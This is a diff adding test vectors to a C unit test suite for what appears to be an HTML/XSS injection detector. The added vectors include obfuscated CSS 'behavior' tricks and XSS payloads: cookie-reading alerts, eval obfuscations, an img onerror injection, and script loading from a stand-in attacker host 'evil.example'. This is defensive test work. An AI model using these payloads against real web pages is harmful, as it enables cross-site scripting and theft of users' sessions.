@@ -70,6 +70,8 @@ static void ie_behavior_still_fires(void **state)
 	    {"<div style=\"", "x:1;/**/behaviour:url(b.htc)", "\">x</div>"},
 	    {"<div style=\"", "\\62 ehavior: url(c.htc)", "\">x</div>"},
 	    {"<div style=\"", "b\\ehavior: url(d.htc)", "\">x</div>"},
+	    {"<div style=\"", "*behavior: url(f.htc)", "\">x</div>"},
+	    {"<div style=\"", "margin:0;_behavior: url(g.htc)", "\">x</div>"},
 	    {"<div style=\"", "&#98;ehavior: url(e.htc)", "\">x</div>"},
 	};
 
@@ -87,7 +89,9 @@ static void a_whole_string_literal_where_a_value_goes_is_data(void **state)
 	    {"<script>t('menu.open', ", "'Ouvrir le menu'", ");</script>"},
 	    {"<script>var ok = [", "'Größe & Farbe'", ", 'x'];</script>"},
 	    {"<button onclick=\"pick(", "'dunkel'", ")\">Thema</button>"},
-	    {"<script>msg(", "\"Don't stop: it's fine\"", ", 2);</script>"},
+	    {"<script>msg(", "\"Don't stop, it's fine!\"", ", 2);</script>"},
+	    {"<script>var theme = ", "'dark'", "; apply(theme);</script>"},
+	    {"<script>var enc = ", "'utf-8'", ", ext = '.html';</script>"},
 	    {"<script>var empty = ", "''", ";</script>"},
 	};
 
@@ -112,6 +116,15 @@ static void a_string_literal_that_does_more_still_fires(void **state)
 	    {"<script>var a = ", "'a\nb'", ";</script>"},
 	    {"<script>var a = ", "'<!--<script>'", ";</script><p>x</p><script>y()</script>"},
 	    {"<a href=\"#\" onclick=\"f(", "'&#39;);alert(1);//'", ")\">x</a>"},
+	    /* a string the page may run, navigate to or load (review21) */
+	    {"<script>setTimeout(", "'alert(document.cookie)'", ", 10);</script>"},
+	    {"<script>location.href = ", "'javascript:name'", ";</script>"},
+	    {"<script>var s = document.createElement('script'); s.src = ", "'//evil.example/x.js'",
+	     "; document.head.appendChild(s);</script>"},
+	    {"<script>eval(", "'onerror=alert;throw 1'", ");</script>"},
+	    {"<script>eval(", "'alert`1`'", ");</script>"},
+	    {"<script>eval(", "\"[]['at']\"", ");</script>"},
+	    {"<script>el.innerHTML = ", "'<img src=x onerror=alert(1)>'", ";</script>"},
 	    /* the string of a javascript: URL's body is rendered as a page */
 	    {"<a href=\"javascript:", "'<img src=x onerror=alert(1)>'", "\">x</a>"},
 	};
